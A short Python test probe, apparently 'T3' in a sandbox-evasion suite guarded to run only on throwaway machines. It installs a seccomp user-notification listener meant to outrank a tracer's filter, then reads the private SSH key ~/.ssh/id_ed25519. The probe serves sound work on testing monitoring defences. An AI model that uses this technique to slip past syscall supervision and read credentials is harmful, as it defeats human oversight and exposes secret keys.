"""T3: installs a seccomp filter with a listener, whose word to go on outranks the tracer's filter."""

import ctypes
import os
import struct

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")
SYS_SECCOMP, SET_MODE_FILTER, NEW_LISTENER, USER_NOTIF = 317, 1, 8, 0x7FC00000
libc = ctypes.CDLL(None)
libc.prctl(38, 1, 0, 0, 0)
program = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, USER_NOTIF))
header = ctypes.create_string_buffer(struct.pack("=HxxxxxxQ", 1, ctypes.addressof(program)))
libc.syscall(SYS_SECCOMP, SET_MODE_FILTER, NEW_LISTENER, header)
open(os.path.expanduser("~/.ssh/id_ed25519")).read()
